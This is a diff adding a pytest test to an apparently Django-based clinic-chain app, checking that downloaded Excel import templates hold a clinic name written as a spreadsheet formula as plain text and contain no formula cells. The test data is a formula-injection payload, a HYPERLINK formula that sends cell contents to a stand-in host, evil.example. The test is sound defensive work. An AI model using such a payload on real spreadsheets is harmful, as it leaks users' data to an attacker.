@@ -94,3 +94,18 @@ def test_no_cell_of_the_guide_sheet_is_a_header_the_import_reads(chain, language
     known = getattr(headers, aliases)
     cells = [value for row in guide.iter_rows(values_only=True) for value in row if value]
     assert [value for value in cells if header_key(str(value)) in known] == []
+
+
+@pytest.mark.parametrize("kind", ["customers", "orders"])
+def test_a_clinic_named_like_a_formula_is_text_in_the_template_never_a_formula(chain, kind):
+    # given a clinic whose name starts with "=" (the template's example comes from the chain's data)
+    from smileloop.clinics.models import Clinic
+
+    name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    Clinic.objects.create(chain=chain, name=name, city="上海")
+    # when the template is downloaded
+    book = openpyxl.load_workbook(io.BytesIO(template_workbook(kind, chain_id=chain.id)))
+    # then that example is in the guide as text, and no cell of any sheet is a formula
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert name in [cell.value for cell in cells]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
